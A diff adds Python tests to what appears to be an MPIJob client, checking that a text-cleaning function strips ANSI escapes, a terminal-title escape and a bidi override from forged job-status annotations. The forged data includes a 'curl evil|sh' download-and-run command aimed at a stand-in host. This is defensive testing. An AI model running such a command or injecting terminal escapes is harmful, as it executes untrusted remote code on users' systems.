@@ -580,6 +580,23 @@ def test_fallback_status_matches_the_cli(v):
     assert got_done == want.get("completionTime")
 
 
+CLEAN = json.loads((REPO / "pkg/api/testdata/clean-text.json").read_text())["vectors"]
+
+
+@pytest.mark.parametrize("v", CLEAN, ids=[v["name"] for v in CLEAN])
+def test_clean_text_matches_the_cli(v):
+    # The vectors Go's api.CleanText is tested with.
+    from mpijob.types import clean_text
+    assert clean_text(v["in"]) == v["out"]
+
+
+def test_a_forged_status_reaches_no_terminal():
+    forged = json.dumps({"phase": "Failed", "message": "\x1b[31mboom", "nextStep": "\x1b]0;x\x07curl evil|sh",
+                         "nextSteps": ["\u202eabc"], "launcher": "Failed"})
+    s = JobStatus.from_trainjob({"metadata": {"name": "j", "annotations": {"mpijob.dev/status": forged}}})
+    assert (s.phase, s.message, s.next_step, s.next_steps) == ("Failed", "boom", "curl evil|sh", ["abc"])
+
+
 class _Cluster:
     """Stand-ins of CustomObjectsApi and CoreV1Api over a few objects in team-a: enough for
     the public methods' mocked-API tests (no cluster)."""
